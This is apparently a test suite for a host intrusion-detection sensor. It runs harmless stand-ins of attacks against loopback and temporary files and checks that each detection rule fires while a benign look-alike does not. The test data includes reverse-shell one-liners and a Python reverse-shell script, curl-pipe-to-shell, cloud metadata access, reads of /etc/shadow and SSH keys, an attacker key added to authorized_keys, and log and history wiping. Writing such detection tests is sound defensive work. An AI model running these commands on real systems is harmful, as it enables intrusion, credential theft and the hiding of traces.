"""Node rules against real processes seen by the real sensor: each attack done harmlessly, and a benign
look-alike of each that the sensor must see (its event is waited for) without the rule matching.

Harmless means: tools are stand-ins named like the real ones (shell scripts that sleep), connections go to
loopback listeners of the test (the metadata-service case is a UDP ``connect``, which sends no packet),
account changes go to a temporary copy of the account files (``useradd -P``/``chpasswd -P``), history and
keys live in a temporary home, and the log truncated is a file the test created under /var/log.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.runtime.test_sensor_support import (
    WAIT_S,
    RunningSensor,
    cmd_has,
    copy_etc,
    fake_tool,
    listen_once,
    marker,
    need_root,
    run,
    start_sensor,
)

from garrison.runtime.engine import load_rules
from garrison.runtime.node.event import NodeEvent

pytestmark = pytest.mark.slow
FALCO = Path(__file__).resolve().parents[3] / "shared/reference/falco"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    need_root()
    h = tmp_path_factory.mktemp("home")
    (h / ".ssh").mkdir()
    (h / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n")
    (h / ".ssh" / "id_rsa.pub").write_text("ssh-ed25519 AAAA test\n")
    return h


@pytest.fixture(scope="module")
def sensor(home: Path) -> Iterator[RunningSensor]:
    running = start_sensor([(str(home), "w"), (str(home / ".ssh"), "rw")])
    try:
        yield running
    finally:
        running.stop()


@pytest.fixture
def bin_dir(tmp_path: Path) -> Path:
    d = tmp_path / "bin"
    d.mkdir()
    return d


def _env(bin_dir: Path, home: Path | None = None) -> dict[str, str]:
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
    if home is not None:
        env["HOME"] = str(home)
    return env


def _no_match(sensor: RunningSensor, rule: str, ev: NodeEvent) -> None:
    assert rule not in sensor.matches_of(ev), f"{rule!r} matched the look-alike {ev.field('proc.cmdline')!r}"


# -- exec-based rules over stand-in tools: (rule, tool, attack args, look-alike tool, look-alike args) ------

TOOL_CASES = [
    (
        "Crypto miner executed",
        "xmrig",
        "-o stratum+tcp://127.0.0.1:3333 -u wallet --donate-level 1",
        "grep",
        "-c stratum /dev/null",
    ),
    (
        "Crypto miner executed",
        "kworker-helper",
        "--algo=rx/0 -o pool.supportxmr.com:443 --cpu-priority 5",
        "kworker-helper",
        "--verbose --threads 2",
    ),
    (
        "Crypto miner downloaded",
        "curl",
        "-sLo /tmp/x http://127.0.0.1:9/xmrig-6.21.0-linux-x64.tar.gz",
        "curl",
        "-sLo /tmp/x http://127.0.0.1:9/release-notes-6.21.0.tar.gz",
    ),
    ("Known attack tool", "nmap", "-sS -p- 127.0.0.1", "nmap-report", "-sS -p- 127.0.0.1"),
    ("Known attack tool", "kube-hunter", "--remote 127.0.0.1", "kube-apiserver-check", "--remote 127.0.0.1"),
    ("Known credential access tool", "mimipenguin", "", "penguin", ""),
    ("Known credential access tool", "lazagne", "all", "lazydocker", "all"),
    (
        "Update timer disabled",
        "systemctl",
        "stop apt-daily-upgrade.timer",
        "systemctl",
        "status apt-daily-upgrade.timer",
    ),
    ("Update timer disabled", "systemctl", "mask apt-daily.timer", "systemctl", "mask my-backup.timer"),
    ("Docker build on a node", "docker", "build -t evil:1 .", "docker", "ps -a"),
    ("Security tool killed", "pkill", "-9 falco", "pkill", "-f myapp-worker"),
    ("Security tool killed", "systemctl", "stop auditd", "systemctl", "restart nginx"),
    (
        "Port forwarding to outside",
        "ssh",
        "-N -R 8080:localhost:80 tunnel@203.0.113.7",
        "ssh",
        "-N -L 5432:localhost:5432 admin@127.0.0.1",
    ),
    (
        "Port forwarding to outside",
        "socat",
        "TCP4-LISTEN:4444,fork TCP4:198.51.100.9:22",
        "socat",
        "TCP4-LISTEN:4444,fork TCP4:127.0.0.1:22",
    ),
    ("Kubelet kubeconfig access", "cat", "/var/lib/kubelet/kubeconfig", "cat", "/var/lib/kubelet/config.yaml"),
    (
        "Cloud metadata service access",
        "curl",
        "-s http://169.254.169.254/latest/meta-data/iam/",
        "curl",
        "-s http://127.0.0.1:9/latest/meta-data/",
    ),
    ("Password changed", "passwd", "alice", "passwd", "-S alice"),
    ("New namespace from a container", "unshare", "-U true", "unshare", "-U true"),
]


@pytest.mark.parametrize(
    ("rule", "tool", "args", "benign_tool", "benign_args"), TOOL_CASES, ids=[f"{c[0]}:{c[1]}" for c in TOOL_CASES]
)
def test_tool_rule(
    sensor: RunningSensor, bin_dir: Path, rule: str, tool: str, args: str, benign_tool: str, benign_args: str
) -> None:
    m = marker()
    attack_bin = bin_dir / "attack"
    benign_bin = bin_dir / "benign"
    attack_bin.mkdir()
    benign_bin.mkdir()
    fake_tool(attack_bin, tool)
    fake_tool(benign_bin, benign_tool)
    run(attack_bin / tool, *args.split(), m)
    run(benign_bin / benign_tool, *benign_args.split(), m + "b")
    if rule == "New namespace from a container":
        # The host process is the look-alike: the rule wants a container (tests/runtime/test_sensor_docker.py).
        ev = sensor.wait_event(cmd_has(m), f"the {tool} exec")
        _no_match(sensor, rule, ev)
        return
    hit = sensor.wait_match(rule, cmd_has(m))
    assert hit.event.field("proc.name") == tool
    assert m in hit.output
    sandbox = FALCO / "falco-sandbox_rules.yaml"
    if tool == "xmrig" and sandbox.exists():  # Falco's own rule fires on the sensor's event too
        assert "Known Cryptominer Process Executed" in [x.rule.name for x in load_rules([sandbox]).evaluate(hit.event)]
    ev = sensor.wait_event(cmd_has(m + "b"), f"the look-alike {benign_tool} exec")
    _no_match(sensor, rule, ev)


# -- reverse shells --------------------------------------------------------------------------------------


def test_reverse_shell_dev_tcp(sensor: RunningSensor) -> None:
    """bash's /dev/tcp redirect to a loopback listener: the command line, and the socket on the shell's fd 0-2."""
    lst = listen_once(say=b"exit\n", hold_s=4.0)
    m = marker()
    proc = subprocess.Popen(
        ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1; : {m}"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        hit = sensor.wait_match("Reverse shell", cmd_has(m))
        assert "/dev/tcp/127.0.0.1" in hit.output
        # sock_diag saw the connection and found it on fd 0, 1 and 2 of the inner interactive bash.
        dup = sensor.wait_match(
            "Reverse shell",
            lambda e: e.kind == "dup2" and e.field("fd.rport") == lst.port and e.field("proc.name") == "bash",
        )
        assert dup.event.field("fd.num") in (0, 1, 2)
        assert dup.event.field("fd.sip") == "127.0.0.1"
        assert dup.event.field("fd.l4proto") == "tcp"
    finally:
        proc.wait(timeout=30)
        lst.thread.join(timeout=10)


def test_reverse_shell_python_script(sensor: RunningSensor, tmp_path: Path) -> None:
    """A script file (nothing telling on its command line) connects, dups the socket onto 0-2 and execs sh:
    only the sock_diag view (a shell whose stdio is a socket) can see it."""
    lst = listen_once(say=b"exit\n", hold_s=4.0)
    script = tmp_path / "job.py"
    script.write_text(
        "import os, socket, sys\n"
        "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
        "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
        "os.execv('/bin/sh', ['sh', '-i'])\n"
    )
    proc = subprocess.Popen([sys.executable, str(script), str(lst.port)], stderr=subprocess.DEVNULL)
    try:
        hit = sensor.wait_match("Reverse shell", lambda e: e.kind == "dup2" and e.field("fd.rport") == lst.port)
        assert hit.event.field("proc.name") == "sh"
        assert hit.event.field("proc.exepath") in ("/bin/dash", "/usr/bin/dash", "/bin/sh", "/usr/bin/sh")
    finally:
        proc.wait(timeout=30)
        lst.thread.join(timeout=10)


def test_reverse_shell_lookalike_client(sensor: RunningSensor, tmp_path: Path) -> None:
    """A client that holds a loopback connection on fd 3, its stdio untouched: a connect, no reverse shell."""
    lst = listen_once(say=b"bye\n", hold_s=3.0)
    script = tmp_path / "client.py"
    script.write_text("import socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\ns.recv(16)\n")
    proc = subprocess.Popen([sys.executable, str(script), str(lst.port)])
    try:
        ev = sensor.wait_event(lambda e: e.kind == "connect" and e.field("fd.rport") == lst.port, "the connect")
        assert ev.field("fd.sip") == "127.0.0.1" and ev.field("fd.typechar") == "4"
        assert str(ev.field("proc.cmdline")).endswith(f"client.py {lst.port}")
        _no_match(sensor, "Reverse shell", ev)
        with sensor.cond:
            assert not [
                x for x in sensor.matches if x.rule.name == "Reverse shell" and x.event.field("fd.rport") == lst.port
            ]
    finally:
        proc.wait(timeout=30)
        lst.thread.join(timeout=10)


def test_cloud_metadata_connect(sensor: RunningSensor, tmp_path: Path) -> None:
    """A UDP socket connected to 169.254.169.254 (connect on UDP sends nothing) vs one connected to loopback."""
    script = tmp_path / "meta.py"
    script.write_text(
        "import socket, sys, time\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.connect((sys.argv[1], 80))\n"
        "time.sleep(3.0)\n"
    )
    bad = subprocess.Popen([sys.executable, str(script), "169.254.169.254"])
    good = subprocess.Popen([sys.executable, str(script), "127.0.0.1"])
    try:
        hit = sensor.wait_match(
            "Cloud metadata service access", lambda e: e.kind == "connect" and e.field("proc.pid") == bad.pid
        )
        assert hit.event.field("fd.l4proto") == "udp" and hit.event.field("fd.rport") == 80
        ev = sensor.wait_event(
            lambda e: e.kind == "connect" and e.field("proc.pid") == good.pid, "the loopback connect"
        )
        _no_match(sensor, "Cloud metadata service access", ev)
    finally:
        bad.wait(timeout=30)
        good.wait(timeout=30)


# -- files -----------------------------------------------------------------------------------------------


def test_history_cleared_by_redirect(sensor: RunningSensor, home: Path) -> None:
    hist = home / ".bash_history"
    hist.write_text("ls\ncat secrets\n")
    m = marker()
    run("bash", "-c", f"echo 'echo {m}' >> {hist}")  # look-alike: history appended to
    ev = sensor.wait_event(
        lambda e: e.kind == "openat" and e.field("fd.name") == str(hist) and m in str(e.field("proc.cmdline")),
        "the append to the history",
    )
    assert ev.field("evt.arg", "flags") == "O_WRONLY"
    _no_match(sensor, "Shell history cleared", ev)
    run("bash", "-c", f": > {hist}; : {m}x")  # the attack: truncated by a redirect, no exec shows it
    hit = sensor.wait_match(
        "Shell history cleared", lambda e: e.kind == "openat" and m + "x" in str(e.field("proc.cmdline"))
    )
    assert hit.event.field("fd.filename") == ".bash_history"
    assert "O_TRUNC" in str(hit.event.field("evt.arg", "flags"))


def test_history_cleared_by_command(sensor: RunningSensor, home: Path, bin_dir: Path) -> None:
    m = marker()
    (home / ".zsh_history").write_text("x\n")
    run("rm", "-f", str(home / ".zsh_history"), m)
    sensor.wait_match("Shell history cleared", cmd_has(m))
    run("rm", "-f", str(home / "notes.txt"), m + "b")
    _no_match(sensor, "Shell history cleared", sensor.wait_event(cmd_has(m + "b"), "rm of a note"))


def test_system_log_truncated_and_removed(sensor: RunningSensor) -> None:
    m = marker()
    log = Path(f"/var/log/garrison-test-{m}.log")
    try:
        run("bash", "-c", f"echo started > {log}; : {m}w")  # look-alike: a log written
        ev = sensor.wait_event(lambda e: e.kind == "openat" and e.field("fd.name") == str(log), "the log write")
        _no_match(sensor, "System log removed", ev)
        run("bash", "-c", f": > {log}; : {m}t")
        hit = sensor.wait_match(
            "System log removed", lambda e: e.kind == "openat" and m + "t" in str(e.field("proc.cmdline"))
        )
        assert hit.event.field("fd.name") == str(log)
    finally:
        run("rm", "-f", str(log))
    sensor.wait_match("System log removed", cmd_has(str(log)))


def test_ssh_keys(sensor: RunningSensor, home: Path) -> None:
    m = marker()
    run("cat", str(home / ".ssh" / "id_rsa"), m)
    hit = sensor.wait_match("SSH private key read", lambda e: e.kind == "openat" and m in str(e.field("proc.cmdline")))
    assert hit.event.field("fd.name") == str(home / ".ssh" / "id_rsa")
    run("cat", str(home / ".ssh" / "id_rsa.pub"), m + "b")
    ev = sensor.wait_event(lambda e: e.kind == "openat" and m + "b" in str(e.field("proc.cmdline")), "the .pub read")
    _no_match(sensor, "SSH private key read", ev)
    run("bash", "-c", f"echo 'ssh-ed25519 AAAA attacker' >> {home / '.ssh' / 'authorized_keys'}; : {m}k")
    sensor.wait_match(
        "SSH authorized keys changed", lambda e: e.kind == "openat" and m + "k" in str(e.field("proc.cmdline"))
    )


def test_shadow_read(sensor: RunningSensor) -> None:
    m = marker()
    run("bash", "-c", f"cat /etc/shadow > /dev/null; : {m}")  # read only; the output is discarded
    sensor.wait_match(
        "Shadow file read",
        lambda e: (
            e.kind == "openat"
            and e.field("proc.name") == "cat"
            and e.field("fd.name") == "/etc/shadow"
            and m in str(e.field("proc.pcmdline"))
        ),
    )


# -- accounts in a throwaway copy of /etc ----------------------------------------------------------------


def test_user_added_and_password_changed_in_a_copy(sensor: RunningSensor, tmp_path: Path) -> None:
    m = marker()
    etc = copy_etc(tmp_path)
    user = "u" + m[-8:]
    subprocess.run(["useradd", "-P", str(tmp_path), "-M", "-s", "/bin/sh", user], check=True)
    assert user in (etc / "passwd").read_text()
    hit = sensor.wait_match("User added", cmd_has(f"useradd -P {tmp_path}"))
    assert hit.event.field("proc.exepath") == "/usr/sbin/useradd"
    crypt = "$6$gtestsalt$" + "x" * 86  # a crypt(3) SHA-512 hash's shape
    subprocess.run(["usermod", "-P", str(tmp_path), "-p", crypt, user], check=True)
    assert f"{user}:{crypt}:" in (etc / "shadow").read_text()
    hit = sensor.wait_match("Password changed", cmd_has(f"usermod -P {tmp_path}"))
    assert hit.event.field("proc.name") == "usermod"
    run("useradd", "--help", m)  # look-alike
    _no_match(sensor, "User added", sensor.wait_event(cmd_has(f"useradd --help {m}"), "useradd --help"))


# -- shells and scripts ----------------------------------------------------------------------------------


def test_download_and_run(sensor: RunningSensor, bin_dir: Path) -> None:
    m = marker()
    fake_tool(bin_dir, "curl", "echo true")
    env = _env(bin_dir)
    run("sh", "-c", f"curl -s http://127.0.0.1:9/{m}.sh | sh", env=env)
    sensor.wait_match("Download and run", cmd_has(m))
    run("sh", "-c", f"curl -s http://127.0.0.1:9/{m}b.json > /dev/null", env=env)
    _no_match(sensor, "Download and run", sensor.wait_event(cmd_has(m + "b"), "the plain download"))


def _nohup_seen(sensor: RunningSensor, script: Path, tries: int = 3) -> NodeEvent:
    for attempt in range(1, tries + 1):
        run("nohup", str(script))
        try:
            return sensor.wait_event(cmd_has(f"nohup {script}"), f"nohup {script.name}", timeout=WAIT_S / tries)
        except AssertionError:
            if attempt == tries:
                raise
    raise AssertionError("unreachable")


def test_nohup_hidden_file_in_tmp(sensor: RunningSensor) -> None:
    m = marker()
    d = Path("/tmp") / m
    d.mkdir()
    try:
        hidden = fake_tool(d, ".cache-daemon", "sleep 0.3")
        visible = fake_tool(d, "report.sh", "sleep 0.3")
        # nohup lives about a millisecond before it execs the script: on a loaded machine the sensor
        # can read its /proc entry only after the exec, and then sees the script, not nohup. Each is
        # run again (at most three times) until the sensor has seen nohup itself.
        _nohup_seen(sensor, hidden)
        sensor.wait_match("Nohup of a hidden file in a temporary folder", cmd_has(f"nohup {hidden}"))
        ev = _nohup_seen(sensor, visible)
        _no_match(sensor, "Nohup of a hidden file in a temporary folder", ev)
    finally:
        for f in d.iterdir():
            f.unlink()
        d.rmdir()


def test_recon_burst(sensor: RunningSensor) -> None:
    m = marker()
    run("sh", "-c", f"id >/dev/null; whoami >/dev/null; : {m}")  # look-alike: two commands
    ev = sensor.wait_event(lambda e: e.field("proc.name") == "whoami" and m in str(e.field("proc.pcmdline")), "whoami")
    assert ev.field("garrison.recon_burst") == 2
    _no_match(sensor, "Burst of reconnaissance commands", ev)
    run("sh", "-c", f"whoami; id; uname -a; hostname; ps -e; w; : {m}x")
    hit = sensor.wait_match(
        "Burst of reconnaissance commands", lambda e: e.kind == "execve" and m + "x" in str(e.field("proc.pcmdline"))
    )
    burst = hit.event.field("garrison.recon_burst")
    assert isinstance(burst, int) and burst >= 5


def test_timestamp_tampering(sensor: RunningSensor, tmp_path: Path) -> None:
    m = marker()
    run("touch", "-r", "/etc/hostname", str(tmp_path / m))
    sensor.wait_match("File timestamp tampering", cmd_has(m))
    run("touch", str(tmp_path / (m + "b")))
    _no_match(sensor, "File timestamp tampering", sensor.wait_event(cmd_has(m + "b"), "plain touch"))


def test_web_shell(sensor: RunningSensor, bin_dir: Path) -> None:
    m = marker()
    web = fake_tool(bin_dir, "php-fpm", f"sh -c 'id >/dev/null; : {m}'; true")
    run(web)
    hit = sensor.wait_match("Web shell", cmd_has(m))
    assert hit.event.field("proc.pname") == "php-fpm"
    fake_tool(bin_dir, "php")
    web2 = fake_tool(bin_dir, "nginx", f"{bin_dir / 'php'} -r {m}b; true")
    run(web2)
    ev = sensor.wait_event(cmd_has(m + "b"), "php under nginx")
    assert ev.field("proc.pname") == "nginx"
    _no_match(sensor, "Web shell", ev)


def test_garrison_test_alert(sensor: RunningSensor) -> None:
    m = marker()
    run("sh", "-c", f"echo GARRISON-TEST-ALERT-8D1E {m} >/dev/null")
    hit = sensor.wait_match("Garrison test alert", cmd_has(m))
    assert hit.rule.defender == ("K8S.NODE_EICAR",)
    run("sh", "-c", f"echo GARRISON-TEST-ALERT {m}b >/dev/null")
    _no_match(sensor, "Garrison test alert", sensor.wait_event(cmd_has(m + "b"), "the look-alike"))


def test_process_fields(sensor: RunningSensor, tmp_path: Path) -> None:
    """The fields of one exec: name, exe, args, cwd, parent chain, user, host container."""
    m = marker()
    subprocess.run(["sh", "-c", f"sleep 0.3 {m} 2>/dev/null; true"], cwd=tmp_path, check=False)
    ev = sensor.wait_event(
        lambda e: e.kind == "execve" and e.field("proc.name") == "sleep" and m in str(e.field("proc.args")), "sleep"
    )
    assert ev.field("proc.exepath") == "/usr/bin/sleep"
    assert ev.field("proc.exe") == "sleep"
    assert ev.field("proc.cmdline") == f"sleep 0.3 {m}"
    assert ev.field("proc.cwd") == str(tmp_path) + "/"
    assert ev.field("proc.pname") == "sh" and ev.field("proc.aname", "1") == "sh"
    assert ev.field("proc.aname", "0") == "sleep"
    assert ev.field("proc.aname", "2") == ev.field("proc.aname")[1]  # type: ignore[index]
    assert ev.field("proc.apid", "2") == os.getpid()
    assert ev.field("user.uid") == 0 and ev.field("user.name") == "root"
    assert ev.field("container.id") == "host"
    assert str(ev.field("evt.time.iso8601")).endswith("Z")
